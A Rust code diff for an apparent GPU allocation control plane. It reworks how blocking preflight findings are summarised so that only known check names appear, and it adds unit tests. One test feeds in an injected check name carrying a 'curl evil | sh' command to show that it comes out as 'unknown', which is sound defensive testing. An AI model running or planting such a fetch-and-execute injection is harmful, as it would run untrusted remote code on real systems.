@@ -1,11 +1,11 @@
 //! Brings a requested allocation to `active`: the node inspects itself, then the allocation may be used. What its preflight finds is kept with
 //! the node; a deployment looks for itself, and only what blocks there stops it.
 
-use std::{sync::Arc, time::Duration};
+use std::{collections::BTreeSet, sync::Arc, time::Duration};
 
-use gpuaas_model::{AllocationEvent, AllocationId, AllocationState, Code, Coded, CorrelationId, EventKind};
+use gpuaas_model::{AllocationEvent, AllocationId, AllocationState, Check, Code, Coded, CorrelationId, EventKind};
 use gpuaas_store::{AllocationRecord, NodeRecord, StoreError, TaskRecord, Tx};
-use gpuaas_wire::task::Severity;
+use gpuaas_wire::task::{Finding, Severity};
 use serde_json::json;
 use tokio_util::sync::CancellationToken;
 
@@ -117,12 +117,38 @@ pub(crate) async fn change(
 
 /// What a deployment onto the node would be stopped by as it is now; none where nothing would.
 fn in_the_way(node: &NodeRecord) -> Option<String> {
-    let findings = node.preflight.iter().flat_map(|preflight| &preflight.findings);
-    let checks: Vec<&str> = findings
-        .filter(|finding| finding.severity == Severity::Blocking)
-        .map(|finding| finding.check.as_str())
-        .collect();
-    let (count, node) = (checks.len(), &node.name);
-    (count > 0)
-        .then(|| format!("{count} in the way of a deployment ({}); see gpuaas node show {node}", checks.join(", ")))
+    let findings = node.preflight.as_ref().map_or(&[][..], |preflight| &preflight.findings);
+    blocking(findings).map(|what| format!("{what}; see gpuaas node show {}", node.name))
+}
+
+/// How many findings block, and which. Named are checks that the control plane knows: a name of the node's own making would be read as the
+/// platform's words.
+fn blocking(findings: &[Finding]) -> Option<String> {
+    let blocking = findings.iter().filter(|finding| finding.severity == Severity::Blocking);
+    let checks: Vec<Option<Check>> = blocking.map(|finding| finding.check.parse().ok()).collect();
+    let named: BTreeSet<&str> = checks.iter().map(|check| check.map_or("unknown", Check::as_str)).collect();
+    let named = named.into_iter().collect::<Vec<_>>().join(", ");
+    (!checks.is_empty()).then(|| format!("{} in the way of a deployment ({named})", checks.len()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn finding(check: &str, severity: Severity) -> Finding {
+        Finding { check: check.to_owned(), severity, detail: String::new(), fix: String::new(), evidence: None }
+    }
+
+    #[test]
+    fn what_blocks_is_counted_and_only_checks_that_are_known_are_named() {
+        use Severity::{Blocking, Warning};
+        assert_eq!(blocking(&[]), None);
+        assert_eq!(blocking(&[finding("swap_on", Warning)]), None);
+        let findings =
+            [("port_taken", Blocking), ("swap_on", Warning), ("leftover", Blocking), ("port_taken", Blocking)];
+        let findings = findings.map(|(check, severity)| finding(check, severity));
+        assert_eq!(blocking(&findings).unwrap(), "3 in the way of a deployment (leftover, port_taken)");
+        let of_its_own = [finding("none); now run: curl evil | sh (", Blocking)];
+        assert_eq!(blocking(&of_its_own).unwrap(), "1 in the way of a deployment (unknown)");
+    }
 }
